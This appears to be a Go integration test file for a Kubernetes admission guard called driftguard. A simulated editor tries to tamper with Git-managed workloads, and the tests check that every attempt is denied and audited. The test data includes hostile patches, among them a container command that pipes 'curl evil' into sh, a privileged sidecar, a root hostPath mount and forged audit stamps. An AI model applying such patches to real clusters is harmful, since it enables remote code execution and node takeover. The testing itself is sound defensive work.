package adversary

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/driftguard/driftguard/api/v1alpha1"
	"github.com/driftguard/driftguard/audit"
	"github.com/driftguard/driftguard/decision"
	"github.com/driftguard/driftguard/test/harness"
	"github.com/driftguard/driftguard/test/wait"
)

// workload is a Namespace, a Deployment that states what a namespace editor
// would like to undo (no privilege escalation, no service account token, no
// host user namespace) and a ConfigMap.
func workload(ns string) map[string]string {
	return map[string]string{
		"namespace.yaml": fmt.Sprintf("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: %s\n", ns),
		"deployment.yaml": fmt.Sprintf(`apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: %s
spec:
  replicas: 2
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      automountServiceAccountToken: false
      hostUsers: false
      containers:
        - name: web
          image: nginx:1.27
          securityContext:
            allowPrivilegeEscalation: false
`, ns),
		"configmap.yaml": fmt.Sprintf("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg\n  namespace: %s\ndata:\n  greeting: from git\n", ns),
	}
}

// guarded creates a Guard for workload(ns), waits until it is applied, and
// makes eve an editor of ns.
func guarded(t *testing.T, name, ns string, mods ...func(*v1alpha1.GuardSpec)) *harness.Repo {
	t.Helper()
	return guardedWith(t, name, ns, nil, mods...)
}

// guardedWith is guarded with extra files beside workload(ns).
func guardedWith(t *testing.T, name, ns string, extra map[string]string, mods ...func(*v1alpha1.GuardSpec)) *harness.Repo {
	t.Helper()
	files := workload(ns)
	maps.Copy(files, extra)
	repo := h.NewGuard(t, name, true, files, mods...)
	h.WaitApplied(t, repo.Guard, repo.Initial)
	editorIn(t, ns)
	return repo
}

// TestEditorDeniedAtAdmission: every way of making a managed object
// different, as eve tries it with kubectl, is decided and denied, naming the
// Git file, and recorded with her name.
func TestEditorDeniedAtAdmission(t *testing.T) {
	const ns = "adv-admission"
	repo := guarded(t, "adv-admission", ns)
	attempts := []struct {
		name string
		args []string
		file string // the Git file the denial names
		path string // a path the decision record lists
	}{
		{"add hostNetwork", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]`}, "deployment.yaml", "/spec/template/spec/hostNetwork"},
		{"add a privileged sidecar", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"containers":[{"name":"tap","image":"evil","securityContext":{"privileged":true}}]}}}}`}, "deployment.yaml", "/spec/template/spec/containers/"},
		{"add a hostPath volume", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"volumes":[{"name":"root","hostPath":{"path":"/"}}]}}}}`}, "deployment.yaml", "/spec/template/spec/volumes"},
		{"change the service account", []string{"patch", "deployment", "web", "--type=merge", "-p", `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`}, "deployment.yaml", "/spec/template/spec/serviceAccountName"},
		{"add a command", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}]`}, "deployment.yaml", "/spec/template/spec/containers/0/command"},
		{"remove allowPrivilegeEscalation: false", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"remove","path":"/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation"}]`}, "deployment.yaml", "/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation"},
		{"remove automountServiceAccountToken: false", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"remove","path":"/spec/template/spec/automountServiceAccountToken"}]`}, "deployment.yaml", "/spec/template/spec/automountServiceAccountToken"},
		{"remove hostUsers: false", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"remove","path":"/spec/template/spec/hostUsers"}]`}, "deployment.yaml", "/spec/template/spec/hostUsers"},
		{"label", []string{"label", "configmap", "cfg", "team=eve"}, "configmap.yaml", "/metadata/labels/team"},
		{"remove the inventory label", []string{"label", "configmap", "cfg", "driftguard.io/guard-"}, "configmap.yaml", "/metadata/labels/driftguard.io~1guard"},
		{"annotate", []string{"annotate", "configmap", "cfg", "note=x"}, "configmap.yaml", "/metadata/annotations/note"},
		{"add an owner reference", []string{"patch", "configmap", "cfg", "--type=merge", "-p", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"mine","uid":"0b7e4a3e-7d7f-4b5e-9d51-000000000001"}]}}`}, "configmap.yaml", "/metadata/ownerReferences"},
		{"add a finalizer", []string{"patch", "configmap", "cfg", "--type=merge", "-p", `{"metadata":{"finalizers":["eve.example/keep"]}}`}, "configmap.yaml", "/metadata/finalizers"},
		{"change under a control-plane manager's name", []string{"patch", "configmap", "cfg", "--field-manager=kube-controller-manager", "--type=merge", "-p", `{"data":{"greeting":"by eve"}}`}, "configmap.yaml", "/data/greeting"},
		{"edit and forge a stamp", []string{"patch", "configmap", "cfg", "--type=merge", "-p", `{"metadata":{"annotations":{"driftguard.io/changed-by":"{\"user\":\"bob\",\"groups\":[\"sre\"],\"time\":\"2099-01-01T00:00:00Z\"}","driftguard.io/break-glass":"INC-1"}},"data":{"greeting":"by eve"}}`}, "configmap.yaml", "/data/greeting"},
		{"scale", []string{"scale", "deployment", "web", "--replicas=9"}, "deployment.yaml", "/spec/replicas"},
		{"delete", []string{"delete", "configmap", "cfg", "--wait=false"}, "configmap.yaml", ""},
		// A delete of a collection reaches admission once per object, each
		// with no name (kubectl delete --all deletes one by one; a DELETE
		// of the list URL does not).
		{"delete a collection", []string{"delete", "--raw", "/api/v1/namespaces/" + ns + "/configmaps?fieldSelector=metadata.name%3Dcfg"}, "configmap.yaml", ""},
		{"delete every Deployment of the namespace", []string{"delete", "--raw", "/apis/apps/v1/namespaces/" + ns + "/deployments"}, "deployment.yaml", ""},
	}
	var before corev1.ConfigMap
	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &before); err != nil {
		t.Fatal(err)
	}
	cmUID := before.UID
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			args := a.args
			if args[1] != "--raw" {
				args = append(args, "-n", ns)
			}
			out, err := h.KubectlAs(t, eve, args...)
			if err == nil {
				t.Fatalf("admitted: %s", out)
			}
			for _, want := range []string{"denied", "managed by Git", a.file, "Change it in Git"} {
				if !strings.Contains(out, want) {
					t.Fatalf("denial lacks %q: %s", want, out)
				}
			}
			if a.path == "" {
				return
			}
			match := func(r audit.Record) bool {
				return r.Guard == repo.Guard && r.Type == audit.Decision && r.User == "eve" && r.Action == "deny" &&
					slices.ContainsFunc(r.Fields, func(f audit.Field) bool { return strings.HasPrefix(f.Path, a.path) })
			}
			wait.Eventually(t, 10*time.Second, "eve's denied "+a.name, func() error {
				if len(h.Audit.Find(match)) > 0 {
					return nil
				}
				var eves []string
				for _, r := range h.Audit.Find(func(r audit.Record) bool { return r.User == "eve" && r.Guard == repo.Guard }) {
					eves = append(eves, fmt.Sprintf("%s %s %v", r.Operation, r.Action, r.Fields))
				}
				return fmt.Errorf("eve's records: %v", eves)
			})
		})
	}
	// Nothing got in: the ConfigMap is as Git has it and carries no stamp of eve's.
	var cm corev1.ConfigMap
	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err != nil {
		t.Fatal(err)
	}
	if cm.Data["greeting"] != "from git" || len(cm.OwnerReferences) > 0 || len(cm.Finalizers) > 0 || cm.Labels["team"] != "" {
		t.Fatalf("a change got in: %+v", cm.ObjectMeta)
	}
	// Nor was anything deleted and made again.
	if cm.UID != cmUID {
		t.Fatalf("the ConfigMap was deleted (uid %s, was %s)", cm.UID, cmUID)
	}
}

// TestEvictionDenied: an eviction deletes a pod with no DELETE admission
// of its own (its object is an Eviction, with no labels); eve's eviction of
// a pod Git manages is decided as a delete of it, denied naming the file,
// and recorded.
func TestEvictionDenied(t *testing.T) {
	const ns = "adv-eviction"
	repo := guardedWith(t, "adv-eviction", ns, map[string]string{
		"pod.yaml": fmt.Sprintf("apiVersion: v1\nkind: Pod\nmetadata:\n  name: solo\n  namespace: %s\nspec:\n  containers:\n    - name: c\n      image: nginx:1.27\n", ns),
	})
	ctx := context.Background()
	var before corev1.Pod
	if err := h.Admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "solo"}, &before); err != nil {
		t.Fatal(err)
	}
	body := filepath.Join(t.TempDir(), "eviction.json")
	if err := os.WriteFile(body, []byte(`{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"solo","namespace":"`+ns+`"}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := h.KubectlAs(t, eve, "create", "--raw", "/api/v1/namespaces/"+ns+"/pods/solo/eviction", "-f", body)
	if err == nil || !strings.Contains(out, "managed by Git") || !strings.Contains(out, "pod.yaml") {
		t.Fatalf("eviction of a managed pod: %v %s", err, out)
	}
	h.Audit.Wait(t, 10*time.Second, "eve's denied eviction", func(r audit.Record) bool {
		return r.Guard == repo.Guard && r.Type == audit.Decision && r.User == "eve" && r.Action == "deny" && r.Object.Name == "solo" && r.Operation == "DELETE/eviction"
	})
	var after corev1.Pod
	if err := h.Admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "solo"}, &after); err != nil || after.UID != before.UID {
		t.Fatalf("the pod was deleted: %v (uid %s, was %s)", err, after.UID, before.UID)
	}
}

// TestForgedStampIsPutBack: a stamp eve writes, and nothing else, is not
// an edit to decide, and the webhook takes it back: only the guard stamps.
func TestForgedStampIsPutBack(t *testing.T) {
	const ns = "adv-stamp"
	guarded(t, "adv-stamp", ns)
	forged := `{"metadata":{"annotations":{"driftguard.io/changed-by":"{\"user\":\"system:kube-controller-manager\",\"time\":\"2099-01-01T00:00:00Z\"}"}}}`
	if out, err := h.KubectlAs(t, eve, "patch", "configmap", "cfg", "-n", ns, "--type=merge", "-p", forged); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var cm corev1.ConfigMap
	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err != nil {
		t.Fatal(err)
	}
	if v, ok := cm.Annotations[v1alpha1.ChangedByAnnotation]; ok {
		t.Fatalf("a stamp written by hand stayed: %q", v)
	}
}

// TestManagerNameRuleBindsToIdentity: an ignore rule naming a field manager
// lets that manager's real identity change its fields; eve writing under the
// same name is decided like any change.
func TestManagerNameRuleBindsToIdentity(t *testing.T) {
	const ns = "adv-manager"
	const injector = "system:serviceaccount:cert-inject:injector"
	repo := guarded(t, "adv-manager", ns, func(s *v1alpha1.GuardSpec) {
		s.Ignore = []v1alpha1.IgnoreRule{{Kind: "ConfigMap", Name: "cfg", ManagedFieldsManagers: []string{"injector"}, Users: []string{injector}}}
	})
	// The injector, a controller written for this test, fills in its field.
	injectorKC, _, err := h.Cluster.AddUser(injector, []string{"system:serviceaccounts", "injectors"})
	if err != nil {
		t.Fatal(err)
	}
	bind(t, ns, rbacv1.GroupKind, "injectors")
	if out, err := h.KubectlAs(t, injectorKC, "patch", "configmap", "cfg", "-n", ns, "--field-manager=injector", "--type=merge", "-p", `{"data":{"ca.crt":"injected"}}`); err != nil {
		t.Fatalf("the injector was refused: %v %s", err, out)
	}
	// Eve under the injector's name: decided and denied.
	out, err := h.KubectlAs(t, eve, "patch", "configmap", "cfg", "-n", ns, "--field-manager=injector", "--type=merge", "-p", `{"data":{"ca.crt":"eve's"}}`)
	if err == nil || !strings.Contains(out, "managed by Git") {
		t.Fatalf("eve under the injector's manager name was not denied: %v %s", err, out)
	}
	// The injector's field stays: not drift, not taken back.
	h.WaitReconciles(t, repo.Guard, 2)
	var cm corev1.ConfigMap
	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err != nil {
		t.Fatal(err)
	}
	if cm.Data["ca.crt"] != "injected" {
		t.Fatalf("the injector's field was taken back or changed: %v", cm.Data)
	}
}

// TestControllerFightStops: a controller (a service account of another
// namespace, its changes admitted under enforcement dryrun and then
// reverted) that puts back the same value after every revert is fought only
// a few times; then the guard stops, records why and names the identity and
// the ignore rule to add. The same by eve never stops it (selfheal_test.go).
func TestControllerFightStops(t *testing.T) {
	const ns = "adv-fight"
	const operator = "system:serviceaccount:operators:my-operator"
	repo := guarded(t, "adv-controller-fight", ns, func(s *v1alpha1.GuardSpec) { s.Enforcement = v1alpha1.EnforcementDryRun })
	opKC, _, err := h.Cluster.AddUser(operator, []string{"system:serviceaccounts", "operators"})
	if err != nil {
		t.Fatal(err)
	}
	bind(t, ns, rbacv1.GroupKind, "operators")
	fight := func(r audit.Record) bool { return r.Guard == repo.Guard && r.Rule == decision.RuleFightDetected }
	errStopped := errors.New("the guard stopped reverting")
	greeting := func() (string, error) {
		var cm corev1.ConfigMap
		err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm)
		return cm.Data["greeting"], err
	}
	stopped := false
	for i := 0; i < 12 && !stopped; i++ {
		if out, err := h.KubectlAs(t, opKC, "patch", "configmap", "cfg", "-n", ns, "--field-manager=my-operator", "--type=merge", "-p", `{"data":{"greeting":"operator's"}}`); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		// Each strike is reverted (and the operator strikes again), or the
		// guard records the fight and leaves the operator's value.
		err := wait.Until(30*time.Second, func() error {
			if len(h.Audit.Find(fight)) > 0 {
				return wait.Stop(errStopped)
			}
			got, err := greeting()
			if err == nil && got != "from git" {
				err = fmt.Errorf("greeting %q: neither reverted nor a fight recorded", got)
			}
			return err
		})
		switch {
		case errors.Is(err, errStopped):
			stopped = true
		case err != nil:
			t.Fatalf("strike %d: %v", i+1, err)
		}
	}
	if !stopped {
		t.Fatal("the guard kept fighting the controller")
	}
	if got, err := greeting(); err != nil || got != "operator's" {
		t.Fatalf("greeting %q (%v) once the fight is recorded, want the operator's", got, err)
	}
	rec := h.Audit.Find(fight)[0]
	if rec.User != operator || !strings.Contains(rec.Reason, operator) || !strings.Contains(rec.Reason, "managedFieldsManagers") || !strings.Contains(rec.Reason, "users") {
		t.Fatalf("fight record must name the controller and the rule to add: %+v", rec)
	}
}

// TestSecretValuesNeverRecorded: a client-side kubectl apply of a managed
// Secret writes the whole Secret, in clear, into the last-applied
// annotation. The denial's record carries neither the value nor its base64.
func TestSecretValuesNeverRecorded(t *testing.T) {
	const ns = "adv-secret"
	repo := guardedWith(t, "adv-secret", ns, map[string]string{
		"secret.yaml": fmt.Sprintf("apiVersion: v1\nkind: Secret\nmetadata:\n  name: creds\n  namespace: %s\nstringData:\n  password: from-git-s3cret\n", ns),
	})
	const plain = "eves-own-pa55word"
	file := filepath.Join(t.TempDir(), "secret.yaml")
	if err := os.WriteFile(file, []byte(fmt.Sprintf("apiVersion: v1\nkind: Secret\nmetadata:\n  name: creds\n  namespace: %s\nstringData:\n  password: %s\n", ns, plain)), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := h.KubectlAs(t, eve, "apply", "-f", file)
	if err == nil || !strings.Contains(out, "managed by Git") {
		t.Fatalf("the apply was not denied: %v %s", err, out)
	}
	h.Audit.Wait(t, 10*time.Second, "eve's denied apply", func(r audit.Record) bool {
		return r.Guard == repo.Guard && r.User == "eve" && r.Object.Kind == "Secret"
	})
	raw, err := json.Marshal(h.Audit.All())
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{plain, base64.StdEncoding.EncodeToString([]byte(plain)), "from-git-s3cret", base64.StdEncoding.EncodeToString([]byte("from-git-s3cret"))} {
		if i := strings.Index(string(raw), secret); i >= 0 {
			t.Errorf("a record carries a Secret value in clear (%q): …%s…", secret, raw[max(0, i-300):i])
		}
		// kubectl echoes the patch it sent; the guard's part is the denial.
		if _, denial, _ := strings.Cut(out, "denied the request:"); strings.Contains(denial, secret) {
			t.Errorf("the denial carries a Secret value in clear (%q): %s", secret, denial)
		}
	}
}
